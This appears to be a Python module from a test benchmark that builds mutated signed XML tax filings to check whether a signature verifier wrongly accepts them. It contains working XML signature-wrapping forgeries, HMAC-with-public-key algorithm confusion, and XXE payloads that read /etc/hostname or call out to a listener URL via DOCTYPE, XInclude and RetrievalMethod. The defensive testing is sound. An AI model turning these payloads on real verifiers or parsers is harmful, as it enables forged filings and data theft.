"""Mutants of signed XML: the eight wrappings, re-referencing, splitting, other algorithms, broken octets."""

from __future__ import annotations

import base64
import copy
import hashlib
import itertools
import re
from collections.abc import Callable, Iterator
from random import Random

from asn1crypto import x509
from cryptography.hazmat.primitives import hashes, hmac
from lxml import etree

from ansinh.signing.xml.check import check_xml
from benchmarks.rig.mutants import world
from benchmarks.rig.mutants.kinds import Kind, Mutant, register

DS = "{http://www.w3.org/2000/09/xmldsig#}"
MORE = "http://www.w3.org/2001/04/xmldsig-more#"
Change = Callable[[Random, bytes, str], bytes]


def make(random: Random, listener: str) -> Iterator[Mutant]:
    """Every change in turn, again and again with other places."""
    valid = world.signed_filing()
    for change in itertools.cycle(CHANGES):
        content = change(random, valid, listener)
        if content != valid:
            yield Mutant(change.__name__.strip("_"), content)


def accepts(content: bytes) -> bool:
    """Whether the check believes it, and gives something of it to read."""
    checked = check_xml(content, at=world.AT, path=world.PATH)
    return checked.report.valid or checked.signed is not None


def _tree(content: bytes) -> tuple[etree._Element, etree._Element]:
    root = etree.fromstring(content)
    return root, next(root.iter(f"{DS}Signature"))


def _bytes(root: etree._Element) -> bytes:
    return etree.tostring(root, encoding="UTF-8", xml_declaration=True)


def _evil(root: etree._Element, random: Random) -> etree._Element:
    """The filing without its signature and with another company in it; half of them without the telling Id."""
    evil = copy.deepcopy(root)
    if random.random() < 0.5:
        del evil.attrib["Id"]
    for signature in list(evil.iter(f"{DS}Signature")):
        signature.getparent().remove(signature)  # type: ignore[union-attr]
    evil.find("MaSoThue").text = "0399999999"  # type: ignore[union-attr]
    return evil


# The eight classic wrappings: the original and its signature are kept whole, a forged filing is what a reader meets.


def _wrapped_1(random: Random, valid: bytes, listener: str) -> bytes:
    root, signature = _tree(valid)
    evil, original = _evil(root, random), copy.deepcopy(root)
    signature.append(original)
    evil.find("CKy_Dvi").append(signature)  # type: ignore[union-attr]
    return _bytes(evil)


def _wrapped_2(random: Random, valid: bytes, listener: str) -> bytes:
    root, signature = _tree(valid)
    evil = _evil(root, random)
    evil.find("CKy_Dvi").append(signature)  # type: ignore[union-attr]
    evil.insert(0, copy.deepcopy(_evil(root, random)))
    evil[0].find("MaSoThue").text = "0301234567"  # type: ignore[union-attr]
    return _bytes(evil)


def _wrapped_3(random: Random, valid: bytes, listener: str) -> bytes:
    root, _ = _tree(valid)
    evil = _evil(root, random)
    evil.insert(0, root)
    return _bytes(evil)


def _wrapped_4(random: Random, valid: bytes, listener: str) -> bytes:
    root, _ = _tree(valid)
    outer = etree.Element("Hoso", Id="hoso")
    outer.extend([_evil(root, random), root])
    return _bytes(outer)


def _wrapped_5(random: Random, valid: bytes, listener: str) -> bytes:
    root, signature = _tree(valid)
    root.find("MaSoThue").text = "0399999999"  # type: ignore[union-attr]
    original, _ = _tree(valid)
    holder = etree.SubElement(signature, f"{DS}Object")
    holder.append(_evil(original, random))
    return _bytes(root)


def _wrapped_6(random: Random, valid: bytes, listener: str) -> bytes:
    root, signature = _tree(valid)
    evil, original = _evil(root, random), _tree(valid)[0]
    holder = etree.SubElement(signature, f"{DS}Object")
    holder.append(original)
    evil.find("CKy_Dvi").append(signature)  # type: ignore[union-attr]
    return _bytes(evil)


def _wrapped_7(random: Random, valid: bytes, listener: str) -> bytes:
    root, _ = _tree(valid)
    evil = _evil(root, random)
    extensions = etree.SubElement(evil, "Extensions")
    extensions.append(root)
    return _bytes(evil)


def _wrapped_8(random: Random, valid: bytes, listener: str) -> bytes:
    root, signature = _tree(valid)
    evil = _evil(root, random)
    holder = etree.SubElement(signature, "Object")
    holder.append(_evil(_tree(valid)[0], random))
    signature.set("Id", "hoso")
    evil.find("CKy_Dvi").append(signature)  # type: ignore[union-attr]
    return _bytes(evil)


# What the signature points at, and by what means


def _rereferenced(random: Random, valid: bytes, listener: str) -> bytes:
    address = random.choice(["#hoso", "#xpointer(/)", "#xpointer(id('x'))", listener, "file:///etc/hostname", "#no"])
    root, signature = _tree(valid)
    signature.find(f".//{DS}Reference").set("URI", address)  # type: ignore[union-attr]
    return _bytes(root)


def _other_transform(random: Random, valid: bytes, listener: str) -> bytes:
    kind = random.choice([
        "http://www.w3.org/TR/1999/REC-xpath-19991116", "http://www.w3.org/TR/1999/REC-xslt-19991116",
        "http://www.w3.org/2000/09/xmldsig#base64", "http://www.w3.org/2002/06/xmldsig-filter2",
        "http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments",
    ])  # fmt: skip
    root, signature = _tree(valid)
    transforms = signature.find(f".//{DS}Transforms")
    added = etree.SubElement(transforms, f"{DS}Transform", Algorithm=kind)  # type: ignore[arg-type]
    if "xpath" in kind:
        etree.SubElement(added, f"{DS}XPath").text = "not(ancestor-or-self::MaSoThue)"
        root.find("MaSoThue").text = "0399999999"  # type: ignore[union-attr]
    return _bytes(root)


def _other_algorithm(random: Random, valid: bytes, listener: str) -> bytes:
    kind = random.choice([
        f"{MORE}rsa-sha384", f"{MORE}rsa-sha512", "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
        "http://www.w3.org/2000/09/xmldsig#dsa-sha1", f"{MORE}ecdsa-sha256", f"{MORE}rsa-md5",
        "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1", "",
    ])  # fmt: skip
    return valid.replace(f"{MORE}rsa-sha256".encode(), kind.encode(), 1)


def _hmac_with_the_public_key(random: Random, valid: bytes, listener: str) -> bytes:
    root, signature = _tree(valid)
    root.find("MaSoThue").text = "0399999999"  # type: ignore[union-attr]
    bare = _evil(root, random)
    digest = hashlib.sha256(etree.tostring(bare, method="c14n")).digest()
    signature.find(f".//{DS}DigestValue").text = base64.b64encode(digest).decode()  # type: ignore[union-attr]
    method = signature.find(f".//{DS}SignatureMethod")
    method.set("Algorithm", f"{MORE}hmac-sha256")  # type: ignore[union-attr]
    certificate = x509.Certificate.load(base64.b64decode(signature.findtext(f".//{DS}X509Certificate") or ""))
    known = random.choice(
        [certificate.public_key.dump(), certificate.dump(), bytes(certificate.public_key["public_key"])]
    )
    mac = hmac.HMAC(known, hashes.SHA256())
    mac.update(etree.tostring(etree.fromstring(etree.tostring(signature[0], with_tail=False)), method="c14n"))
    signature[1].text = base64.b64encode(mac.finalize()).decode()
    return _bytes(root)


def _digest_made_anew(random: Random, valid: bytes, listener: str) -> bytes:
    """The content changed and its digest with it: only the signature value can tell."""
    root, signature = _tree(valid)
    evil = _evil(root, random)
    digest = base64.b64encode(hashlib.sha256(etree.tostring(evil, method="c14n")).digest()).decode()
    signature.find(f".//{DS}DigestValue").text = digest  # type: ignore[union-attr]
    evil.find("CKy_Dvi").append(signature)  # type: ignore[union-attr]
    return _bytes(evil)


def _bad_certificate(random: Random, valid: bytes, listener: str) -> bytes:
    """The same key, so that all arithmetic is right: only trust can tell."""
    other = base64.b64encode(random.choice(world.bad_certificates()))
    start, end = valid.index(b"<X509Certificate>") + 17, valid.index(b"</X509Certificate>")
    return valid[:start] + other + valid[end:]


# The content


def _comment_split(random: Random, valid: bytes, listener: str) -> bytes:
    place = random.choice([one.end() for one in re.finditer(rb"<(?:MaSoThue|Luong|MaSoBHXH)>\d", valid)])
    return valid[:place] + random.choice([b"<!---->", b"<!-- x -->", b"<?x?>"]) + valid[place:]


def _figure_changed(random: Random, valid: bytes, listener: str) -> bytes:
    place = random.choice([one.start() + 7 for one in re.finditer(rb"<Luong>\d", valid)])
    return valid[:place] + str(random.randint(1, 9)).encode() + valid[place:]


def _row_moved(random: Random, valid: bytes, listener: str) -> bytes:
    root, _ = _tree(valid)
    table = root.find("Bang")
    assert table is not None
    table.insert(0, table[random.randrange(1, len(table))])
    return _bytes(root)


def _row_removed(random: Random, valid: bytes, listener: str) -> bytes:
    root, _ = _tree(valid)
    table = root.find("Bang")
    assert table is not None
    table.remove(table[random.randrange(len(table))])
    return _bytes(root)


def _octet_flipped(random: Random, valid: bytes, listener: str) -> bytes:
    """In what is signed, or in the signature itself; the certificate's key and the claims lie outside of both."""
    end = valid.index(b"</SignatureValue>")
    place = random.randrange(valid.index(b"<Hoso"), end)
    return valid[:place] + bytes([valid[place] ^ (1 << random.randrange(7))]) + valid[place + 1 :]


def _duplicate_id(random: Random, valid: bytes, listener: str) -> bytes:
    return valid.replace(b"<Signature ", b'<Signature xml:id="hoso" ', 1)


def _signature_doubled(random: Random, valid: bytes, listener: str) -> bytes:
    root, signature = _tree(valid)
    place = random.choice(["MaThuTuc", "Bang", "CKy_Dvi", "."])
    root.find(place).append(copy.deepcopy(signature))  # type: ignore[union-attr]
    return _bytes(root)


def _signature_moved(random: Random, valid: bytes, listener: str) -> bytes:
    root, signature = _tree(valid)
    root.find(random.choice(["MaThuTuc", "Bang", "MaSoThue", "."])).append(signature)  # type: ignore[union-attr]
    return _bytes(root)


# The octets


def _doctype(random: Random, valid: bytes, listener: str) -> bytes:
    lure = random.choice([
        f'<!DOCTYPE Hoso SYSTEM "{listener}x.dtd">', f'<!DOCTYPE Hoso [<!ENTITY x SYSTEM "{listener}">]>',
        '<!DOCTYPE Hoso [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "<!DOCTYPE Hoso>",
        f'<!DOCTYPE Hoso [<!ENTITY % p SYSTEM "{listener}"> %p;]>',
        '<!DOCTYPE Hoso [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    ])  # fmt: skip
    body = valid[valid.index(b"<Hoso") :]
    return lure.encode() + (body.replace(b"0301234567", b"&x;", 1) if "ENTITY x" in lure else body)


def _reference_outside(random: Random, valid: bytes, listener: str) -> bytes:
    lure = random.choice([
        f'<?xml-stylesheet href="{listener}x.xsl" type="text/xsl"?>',
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{listener}"/>',
        f'<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a {listener}"/>',
    ])  # fmt: skip
    return valid.replace(b"<MaThuTuc>", lure.encode() + b"<MaThuTuc>", 1)


def _retrieval(random: Random, valid: bytes, listener: str) -> bytes:
    """The key is to be fetched from elsewhere."""
    start, end = valid.index(b"<X509Data>"), valid.index(b"</KeyInfo>")
    return valid[:start] + f'<RetrievalMethod URI="{listener}"/>'.encode() + valid[end:]


def _other_encoding(random: Random, valid: bytes, listener: str) -> bytes:
    text = valid.decode()
    return random.choice([
        b"\xef\xbb\xbf" + valid, text.replace("UTF-8", "UTF-16", 1).encode("utf-16"),
        text.replace("UTF-8", "UTF-16", 1).encode("utf-16-be"), valid.replace(b"UTF-8", b"UTF-7", 1),
        valid.replace(b"UTF-8", b"ISO-8859-1", 1),
    ])  # fmt: skip


def _truncated(random: Random, valid: bytes, listener: str) -> bytes:
    return valid[: random.randrange(len(valid) - 1)]


CHANGES: tuple[Change, ...] = (
    _wrapped_1,
    _wrapped_2,
    _wrapped_3,
    _wrapped_4,
    _wrapped_5,
    _wrapped_6,
    _wrapped_7,
    _wrapped_8,
    _rereferenced,
    _other_transform,
    _other_algorithm,
    _hmac_with_the_public_key,
    _digest_made_anew,
    _bad_certificate,
    _comment_split,
    _figure_changed,
    _row_moved,
    _row_removed,
    _octet_flipped,
    _duplicate_id,
    _signature_doubled,
    _signature_moved,
    _doctype,
    _reference_outside,
    _retrieval,
    _other_encoding,
    _truncated,
)

register(Kind("xml", share=0.75, valid=lambda: [world.signed_filing()], make=make, accepts=accepts))
